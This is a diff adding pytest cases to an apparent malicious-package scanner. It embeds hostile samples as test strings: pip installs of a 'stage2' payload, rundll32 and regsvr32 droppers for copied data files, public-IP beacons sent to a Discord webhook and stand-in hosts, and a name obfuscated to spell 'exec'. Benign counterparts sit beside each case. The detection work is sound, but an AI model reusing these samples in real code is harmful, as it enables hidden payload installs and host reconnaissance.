@@ -1270,3 +1270,245 @@ def test_a_name_kept_in_a_class_of_the_file_is_computed(filename: str) -> None:
     # a class's setting naming something harmless is no hidden name
     harmless = 'import os\nclass C:\n    sep = "se" + "p"\nvalue = getattr(os, C.sep)\n'
     assert "CPL-THR-003" not in danger(harmless, filename)
+
+
+# -- issue 16, the last misses: pip run through runpy, APIs named for pkgutil -------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import runpy, sys
+        sys.argv = ["pip", "install", "--quiet", "colorama-helperz"]
+        runpy.run_module("pip", run_name="__main__")
+        """,
+        """
+        import runpy, sys
+        sys.argv[1:] = ["install", "https://files.example/stage2-1.0.tar.gz"]
+        runpy.run_module("pip._internal.cli.main", run_name="__main__")
+        """,
+        """
+        import os, runpy, sys
+        import pip
+        sys.argv.extend(["install", "stage2"])
+        runpy.run_path(os.path.join(os.path.dirname(pip.__file__), "__main__.py"))
+        """,
+    ],
+)
+def test_pip_run_through_runpy_with_an_install_in_argv_is_a_threat(source: str) -> None:
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # pip asked its version, and a package's own CLI run with an install subcommand
+        'import runpy, sys\nsys.argv = ["pip", "--version"]\nrunpy.run_module("pip")\n',
+        'import runpy, sys\nsys.argv = ["tool", "install"]\nrunpy.run_module("mytool.cli")\n',
+    ],
+)
+def test_runpy_of_pip_without_an_install_or_of_another_module_is_not(source: str) -> None:
+    assert "CPL-THR-019" not in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import pkgutil\nrun = pkgutil.resolve_name("os:system")\nrun("id")\n',
+        'import pkgutil\npkgutil.resolve_name("subprocess.Popen")(["whoami"])\n',
+        'from pkgutil import resolve_name as rn\nrn("builtins:exec")(code)\n',
+    ],
+)
+def test_an_api_named_in_a_string_for_pkgutil_resolve_name_is_a_threat(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # entry points and settings resolved by the name they are configured with
+        'import pkgutil\nLoader = pkgutil.resolve_name("mypkg.loaders:Loader")\n',
+        "import pkgutil\ndef load(spec):\n    return pkgutil.resolve_name(spec)\n",
+    ],
+)
+def test_pkgutil_resolve_name_of_a_plain_object_or_a_setting_is_not(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+# -- issue 16, the last misses: a DLL the package ships or copies, run by rundll32/regsvr32 --
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import os, subprocess
+        here = os.path.dirname(__file__)
+        subprocess.Popen(["rundll32.exe", os.path.join(here, "data", "cache.dat") + ",DllMain"])
+        """,
+        """
+        import os, shutil
+        here = os.path.dirname(os.path.abspath(__file__))
+        dst = os.path.join(os.environ["APPDATA"], "update.dat")
+        shutil.copyfile(os.path.join(here, "theme.bin"), dst)
+        os.system('rundll32 "%s",Start' % dst)
+        """,
+        """
+        import os, subprocess
+        src = os.path.join(os.path.dirname(__file__), "fonts.bin")
+        dst = os.path.join(os.getenv("TEMP"), "msfont.ocx")
+        with open(src, "rb") as f, open(dst, "wb") as g:
+            g.write(f.read())
+        subprocess.call("regsvr32 /s " + dst, shell=True)
+        """,
+        """
+        import os, shutil, subprocess
+        _HERE = os.path.dirname(os.path.abspath(__file__))
+        def _cache():
+            target = os.path.join(os.environ["LOCALAPPDATA"], "fntcache.dat")
+            shutil.copyfile(os.path.join(_HERE, "data", "glyphs.dat"), target)
+            subprocess.Popen(["rundll32.exe", target + ",GlyphInit"])
+        """,
+    ],
+)
+def test_a_dll_the_package_ships_or_copies_out_run_by_a_windows_loader_is_a_dropper(
+    source: str,
+) -> None:
+    assert "CPL-THR-018" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # Windows' own DLLs, and a COM server registered from the system's folder
+        'import subprocess\nsubprocess.run(["rundll32", "user32.dll,LockWorkStation"])\n',
+        'import os\nos.system("rundll32.exe shell32.dll,Control_RunDLL desk.cpl")\n',
+        'import os, subprocess\nsubprocess.call(["regsvr32", "/s", os.path.join(sd, "x.dll")])\n',
+    ],
+)
+def test_windows_loaders_of_the_systems_own_dlls_are_not_droppers(source: str) -> None:
+    assert "CPL-THR-018" not in danger(source)
+
+
+# -- issue 16, the last misses: the host's public IP looked up and sent out ----------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import requests
+        ip = requests.get("https://api.ipify.org").text
+        requests.post("https://discord.com/api/webhooks/123/abc", json={"content": ip})
+        """,
+        """
+        import json, urllib.request
+        info = json.loads(urllib.request.urlopen("https://ipinfo.io/json").read())
+        data = json.dumps({"ip": info["ip"], "city": info.get("city")}).encode()
+        urllib.request.urlopen(urllib.request.Request("http://198.51.100.7:8080/c", data=data))
+        """,
+        """
+        import requests
+        def beacon():
+            addr = requests.get("http://checkip.amazonaws.com").text.strip()
+            requests.get("https://collect.example/b", params={"a": addr})
+        """,
+    ],
+)
+def test_the_public_ip_looked_up_and_sent_to_a_fixed_host_is_reconnaissance(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a CLI showing the user their address, and a client asking an API it is given
+        'import requests\nprint("your IP:", requests.get("https://api.ipify.org").text)\n',
+        """
+        import requests
+        def lookup(session, url):
+            ip = requests.get("https://ifconfig.me/ip").text
+            return ip
+        """,
+    ],
+)
+def test_the_public_ip_looked_up_and_kept_on_the_host_is_not(source: str) -> None:
+    assert "CPL-THR-017" not in danger(source)
+
+
+# -- issue 16, the last misses: pip's command line built in steps --------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import subprocess\ncmd = ["pip3", "install"]\ncmd += ["stage2"]\nsubprocess.Popen(cmd)\n',
+        """
+        import subprocess
+        cmd = ["pip", "install"]
+        cmd.extend(["stage2"])
+        subprocess.run(cmd)
+        """,
+        """
+        import subprocess, sys
+        base = [sys.executable, "-m", "pip"]
+        subprocess.check_call(base + ["install", "stage2"])
+        """,
+        """
+        import subprocess, sys
+        PIP = [sys.executable, "-m", "pip"]
+        args = PIP + ["install"] + ["--quiet"]
+        args.append("https://files.example/stage2-2.0.tar.gz")
+        subprocess.call(args)
+        """,
+    ],
+)
+def test_pip_install_assembled_from_lists_in_setup_py_is_a_threat(source: str) -> None:
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the package itself, or its requirements file, installed by a build helper
+        """
+        import subprocess, sys
+        b = [sys.executable, "-m", "pip"]
+        subprocess.call(b + ["install", "."])
+        """,
+        """
+        import subprocess, sys
+        cmd = [sys.executable, "-m", "pip", "install"]
+        cmd += ["-r", "requirements.txt"]
+        subprocess.check_call(cmd)
+        """,
+    ],
+)
+def test_pip_installing_the_package_itself_or_its_requirements_is_not(source: str) -> None:
+    assert "CPL-THR-019" not in danger(source, "setup.py")
+
+
+# -- issue 16, the last misses: a name spelled by a helper taking *args ---------------------
+
+
+def test_a_builtin_named_by_a_helper_given_its_letters_as_varargs_is_a_threat() -> None:
+    source = """
+    甲 = str(hex)
+    def 取(源, *位):
+        return "".join(源[k] for k in 位)
+    getattr(__builtins__, 取(甲, 20, 21, 20, 13))(payload)
+    """
+    assert "CPL-THR-003" in danger(source)
+
+
+def test_a_varargs_helper_given_what_the_caller_passes_is_not() -> None:
+    # a name joined from a parameter: getattr(builtins, name) as pydoc and inspect do it
+    source = """
+    import builtins
+    def joined(*parts):
+        return "".join(parts)
+    def lookup(name):
+        return getattr(builtins, joined(name))
+    """
+    assert "CPL-THR-003" not in danger(source)
